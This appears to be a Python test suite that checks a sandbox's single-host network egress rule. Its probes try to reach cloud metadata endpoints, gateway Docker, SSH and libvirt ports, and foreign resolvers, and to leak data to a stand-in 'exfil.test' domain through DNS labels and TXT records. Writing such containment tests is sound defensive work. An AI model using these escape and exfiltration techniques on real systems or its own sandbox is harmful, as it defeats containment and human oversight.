"""A task with net:egress to one port of one host: everything beside it stays shut."""

import errno
import socket

import kit
import wire
from kit import need, probe


def granted_host():
    need(wire.connect(wire.MIRROR, 80).startswith(wire.GREETING))


def granted_name():
    need(socket.gethostbyname("mirror.cordon.test") == wire.MIRROR)


def served_by(host):
    """The granted name in the request, whatever host is asked."""
    with socket.create_connection((host, 80), wire.WAIT) as one:
        one.send(b"GET / HTTP/1.0\r\nHost: mirror.cordon.test\r\n\r\n")
        need(wire.GREETING in one.recv(300))


def granted_by_name():
    served_by("mirror.cordon.test")


def greeted(host, port):
    need(wire.connect(host, port).startswith(wire.GREETING))


@probe("egress-other-port", twin=granted_host)
def other_port():
    greeted(wire.MIRROR, 8080)


@probe("egress-other-host", twin=granted_by_name)
def other_host():
    greeted(wire.OTHER, 80)


@probe("egress-other-protocol", twin=granted_host)
def other_protocol():
    need(wire.ask(wire.MIRROR, 80, b"x").startswith(wire.GREETING))


@probe("egress-name-at-another-address", twin=granted_by_name)
def name_at_another_address():
    # Somebody else's address below the granted name: what a resolver of one's own would give.
    served_by(wire.STRANGE)


@probe("egress-other-network", twin=granted_host)
def other_network():
    greeted("198.18.1.10", 80)


@probe("egress-public-address", twin=granted_host)
def public_address():
    greeted("203.0.113.7", 443)


@probe("egress-metadata-link-local", twin=granted_host)
def metadata():
    greeted("169.254.169.254", 80)


@probe("egress-metadata-routed", twin=granted_host)
def metadata_routed():
    greeted("100.100.100.200", 80)


@probe("egress-gateway-ssh", twin=granted_host)
def gateway_ssh():
    greeted(wire.GATEWAY, 22)


@probe("egress-gateway-docker", twin=granted_host)
def gateway_docker():
    greeted(wire.GATEWAY, 2375)


@probe("egress-gateway-libvirt", twin=granted_host)
def gateway_libvirt():
    greeted(wire.GATEWAY, 16509)


@probe("egress-gateway-udp", twin=granted_name)
def gateway_udp():
    need(wire.ask(wire.GATEWAY, 5353, b"x").startswith(wire.GREETING))


@probe("egress-foreign-resolver", twin=granted_name)
def foreign_resolver():
    wire.resolve("secret.exfil.test", wire.STRANGE)


@probe("egress-foreign-resolver-tcp", twin=granted_name)
def foreign_resolver_tcp():
    greeted(wire.STRANGE, 53)


@probe("dns-name-not-granted", twin=granted_name)
def name_not_granted():
    wire.resolve("a.mirror.cordon.test")


@probe("dns-label-channel", twin=granted_name)
def label_channel():
    label = "what-the-task-has-seen-" * 2 + "and-more"
    wire.resolve(f"{label}.{label}.{label}.exfil.test")


@probe("dns-below-a-granted-name", twin=granted_name)
def below_a_granted_name():
    wire.resolve("secret-in-a-label.mirror.cordon.test")


@probe("dns-text-record", twin=granted_name)
def text_record():
    wire.resolve("secret.exfil.test", kind=16)


@probe("dns-over-tcp", twin=granted_name)
def over_tcp():
    wire.resolve_tcp("secret.exfil.test")


@probe("dns-reverse-lookup", twin=granted_name)
def reverse_lookup():
    wire.resolve("53.1.18.198.in-addr.arpa", kind=12)


@probe("egress-neighbour-machine", twin=granted_host)
def neighbour_machine():
    greeted(wire.NEIGHBOUR, 22)


@probe("egress-broadcast", twin=granted_host)
def broadcast():
    need(wire.ask("198.19.0.255", 9, b"x", wire.QUIET, broadcast=True).startswith(wire.GREETING))


@probe("egress-multicast", twin=granted_host)
def multicast():
    need(wire.ask("224.0.0.1", 5353, b"x", wire.QUIET, broadcast=True).startswith(wire.GREETING))


@probe("egress-ip-options", twin=granted_host)
def ip_options():
    # Record route, on a connection that is granted: the filter of ports is not asked to look behind it.
    need(wire.connect(wire.MIRROR, 80, wire.QUIET, options=b"\x07\x07\x04\0\0\0\0\0").startswith(wire.GREETING))


@probe("egress-source-port", twin=granted_host)
def source_port():
    # Filters that let answers of web servers through by their port alone take this for one.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.bind(("", 8080))
        one.settimeout(wire.WAIT)
        one.connect((wire.STRANGE, 443))
        one.send(b"x")
        try:
            need(one.recv(1500).startswith(wire.GREETING))
        except TimeoutError:
            kit.fail(errno.ETIMEDOUT)


@probe("egress-simultaneous-open", twin=granted_host)
def simultaneous_open():
    # A connection opened from the port of another that is granted and stands: connection tracking must not mix them.
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as one, socket.socket() as two:
        for end in (one, two):
            end.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            end.settimeout(wire.WAIT)
        one.bind(("", 4400))
        one.connect((wire.MIRROR, 80))
        two.bind(("", 4400))
        two.connect((wire.OTHER, 80))
        two.send(b"x")
        need(two.recv(100).startswith(wire.GREETING))
